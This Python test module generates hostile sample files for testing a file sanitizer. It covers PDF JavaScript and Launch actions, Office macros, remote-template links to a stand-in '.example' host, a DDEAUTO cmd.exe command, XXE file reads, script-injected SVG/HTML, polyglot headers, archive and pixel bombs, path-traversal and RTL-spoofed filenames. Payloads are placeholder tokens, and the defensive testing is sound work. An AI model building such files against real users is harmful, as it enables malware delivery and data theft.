"""Hostile files by family, each with a payload of its own; whatever is stored must not hold it any more."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from random import Random

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests import files_made as made

NAMES = ("bericht.pdf", "foto.jpg", "brief.docx", "../../etc/passwd", "a\u202efdp.exe", "x.html", "notiz.txt", "y.svg")


@dataclass(frozen=True)
class Hostile:
    """One file.

    :param payload: what acts in it
    """

    family: str
    name: str
    content: bytes
    payload: bytes


Maker = Callable[[Random, bytes], bytes]


def hostile_files(count: int, seed: str = "hostile files") -> Iterator[Hostile]:
    """So many, the families in turn."""
    random = Random(seed)
    families = sorted(FAMILIES)
    for number in range(count):
        family = families[number % len(families)]
        payload = f"payload{number:04d}".encode() + random.randbytes(4).hex().encode()
        yield Hostile(family, random.choice(NAMES), FAMILIES[family](random, payload), payload)


def _pdf_acting(random: Random, payload: bytes) -> bytes:
    name = random.choice([b"JavaScript", b"J#61vaScript", b"Launch", b"#4caunch", b"SubmitForm", b"ImportData"])
    action = b"<< /S /" + name + b" /JS (" + payload + b") >>"
    return made.pdf(b"/OpenAction " + action)


def _pdf_packed(random: Random, payload: bytes) -> bytes:
    return made.pdf(packed=b"<< /S /JavaScript /JS (" + payload + random.randbytes(random.randint(0, 900)) + b") >>")


def _pdf_packed_twice(random: Random, payload: bytes) -> bytes:
    inside = zlib.compress(b"<< /S /JavaScript /JS (" + payload + b") >>", random.randint(1, 9)).hex().encode() + b">"
    objects = b"2 0 obj\n<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n" + inside
    return b"%PDF-1.7\n" + objects + b"\nendstream\nendobj\n%%EOF\n"


def _pdf_embedding(random: Random, payload: bytes) -> bytes:
    name = random.choice([b"EmbeddedFile", b"EmbeddedFiles", b"RichMedia", b"Rendition", b"GoToE", b"XFA ["])
    return made.pdf(b"/Names << /" + name + b" (" + payload + b") >> ")


def _pdf_and_archive(random: Random, payload: bytes) -> bytes:
    """One that is a ZIP from its end."""
    out = io.BytesIO(made.pdf() + random.randbytes(random.randint(0, 500)))
    with zipfile.ZipFile(out, "a") as folder:
        folder.writestr("x.exe", payload)
        folder.comment = b"%%EOF"
    return out.getvalue()


def _pdf_followed(random: Random, payload: bytes) -> bytes:
    return made.pdf() + random.choice([b"<script>", b"MZ\x90", b"PK\x03\x04"]) + payload


def _pdf_locked(_: Random, payload: bytes) -> bytes:
    return made.pdf(b"/Encrypt << /Filter /Standard /O (" + payload + b") >>")


def _pdf_bomb(_: Random, payload: bytes) -> bytes:
    return made.pdf(packed=bytes(70_000_000) + b"/JavaScript " + payload)


def _macros(random: Random, payload: bytes) -> bytes:
    name = random.choice(
        ["word/vbaProject.bin", "word/activeX/a.bin", "word/embeddings/oleObject1.bin", "word/embeddings/x.docm",
         "word/x.EXE", "xl/macrosheets/s.xml", "word/a.hta", "META-INF/MANIFEST.MF", "word/x.class", "word/a.html"]
    )  # fmt: skip
    return _office({name: payload})


def _remote(random: Random, payload: bytes) -> bytes:
    kind = random.choice(["attachedTemplate", "oleObject", "frame", "subDocument"])
    parts = [f'Type="http://x/{kind}"', f'Target="https://{payload.decode()}.example/x.dotm"', "TargetMode='External'"]
    random.shuffle(parts)
    return _office({"word/_rels/settings.xml.rels": f"<R><Relationship {' '.join(parts)}/></R>".encode()})


def _dde(random: Random, payload: bytes) -> bytes:
    order = b'DDEAUTO c:\\\\windows\\\\cmd.exe "/k ' + payload + b'"'
    cut = random.randint(0, 8)
    runs = b"".join(b"<w:instrText>" + part + b"</w:instrText>" for part in (order[:cut], order[cut:]))
    return _office({"word/document.xml": b"<w:document>" + runs + b"</w:document>"})


def _entities(random: Random, payload: bytes) -> bytes:
    part = random.choice(["word/document.xml", "word/styles.xml", "docProps/app.xml"])
    return _office({part: b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///' + payload + b'">]><x>&e;</x>'})


def _odt_acting(random: Random, payload: bytes) -> bytes:
    acts = [
        b'<script:event-listener script:event-name="dom:load" xlink:href="' + payload + b'"/>',
        b'<text:section-source xlink:href="https://' + payload + b'"/>',
        b'<text:dde-connection office:dde-application="soffice" office:dde-item="' + payload + b'"/>',
    ]
    content = b"<office:document-content>" + random.choice(acts) + b"</office:document-content>"
    return made.archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content.decode()})


def _archive(random: Random, payload: bytes) -> bytes:
    inside = {f"{n}.{random.choice(['exe', 'pdf', 'txt', 'docx'])}": payload.decode() for n in range(3)}
    return made.archive(inside)


def _archive_bomb(random: Random, payload: bytes) -> bytes:
    out = io.BytesIO(made.docx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as folder:
        for number in range(random.randint(2, 3)):
            with folder.open(f"word/media/{number}.xml", "w", force_zip64=True) as part:
                for _ in range(110):
                    part.write(bytes(1_000_000))
        folder.writestr("word/payload.txt", payload)
    return out.getvalue()


def _archive_locked(_: Random, payload: bytes) -> bytes:
    content = bytearray(_office({"word/document.xml": payload}))
    for sign, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(sign)
        while place >= 0:
            content[place + flags] |= 1
            place = content.find(sign, place + 4)
    return bytes(content)


def _markup(random: Random, payload: bytes) -> bytes:
    before = random.choice([b"", b"\xef\xbb\xbf", b"\n \t", b"Sehr geehrte Damen und Herren\n"])
    return before + random.choice(
        [
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='" + payload + b"'/>",
            b"<!doctype html><script>" + payload + b"</script>",
            b"<html><body onload=" + payload + b">",
            b"<?xml version='1.0'?><x><script>" + payload + b"</script></x>",
            b"<IMG src=x onerror=" + payload + b">",
            b"<iframe src='javascript:" + payload + b"'>",
        ]
    )


PROGRAMS = (
    b"MZ\x90\x00\x03",
    b"\x7fELF\x02\x01\x01\x00",
    b"#!/bin/sh\n",
    b"@echo off\r\n",
    b"{\\rtf1\\object ",
    b"MIME-Version: 1.0\r\n",
    b"%!PS-Adobe\n",
    b"[InternetShortcut]\r\nURL=file://",
    b"\xd0\xcf\x11\xe0\xa1\xb1",
    b"Rar!\x1a\x07\x00",
    b"7z\xbc\xaf\x27\x1c",
    b"\x1f\x8b\x08\x00",
    b"CWS\x09\x2a\x01\x00\x00",
    b"\xca\xfe\xba\xbe\x00",
)


def _programs(random: Random, payload: bytes) -> bytes:
    return random.choice(PROGRAMS) + payload + random.randbytes(random.randint(0, 40))


def _picture_carrying(random: Random, payload: bytes) -> bytes:
    """Metadata, and something behind the picture: both are gone when it is written anew."""
    kind, size = random.choice(["JPEG", "PNG", "WEBP"]), (random.randint(8, 90), random.randint(8, 90))
    picture, out = Image.linear_gradient("L").resize(size).convert("RGB"), io.BytesIO()
    exif = Image.Exif()
    exif[0x010E] = "<script>" + payload.decode() + "</script>"
    words = PngInfo()
    words.add_text("Comment", "<?php " + payload.decode())
    picture.save(out, format=kind, exif=exif, **({"pnginfo": words} if kind == "PNG" else {}))
    return out.getvalue() + random.choice([b"", b"PK\x03\x04" + payload, b"<script>" + payload])


def _picture_bomb(random: Random, payload: bytes) -> bytes:
    """A PNG that says it has thousands of millions of points."""
    side = random.choice([20_000, 65_535, 2**31 - 1])
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", zlib.compress(payload)) + _chunk(b"IEND", b"")


def _picture_broken(random: Random, payload: bytes) -> bytes:
    whole = made.image(random.choice(["JPEG", "PNG", "WEBP"]))
    return whole[: random.randint(12, 40)] + payload


def _slow(random: Random, payload: bytes) -> bytes:
    """What a careless pattern would search for hours."""
    brackets = b"<" * random.randint(50_000, 200_000) + payload
    return _office({"word/_rels/x.rels": brackets, "word/vbaProject.bin": payload})


def _office(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO(made.docx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_STORED) as folder:
        for name, content in parts.items():
            folder.writestr(name, content)
    return out.getvalue()


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


KINDS = ("pdf", "macros", "remote", "dde", "entities", "odt", "archive", "markup", "programs", "picture", "slow")
FAMILIES: dict[str, Maker] = {
    name[1:]: maker for name, maker in list(globals().items()) if name[:1] == "_" and name[1:].startswith(KINDS)
}
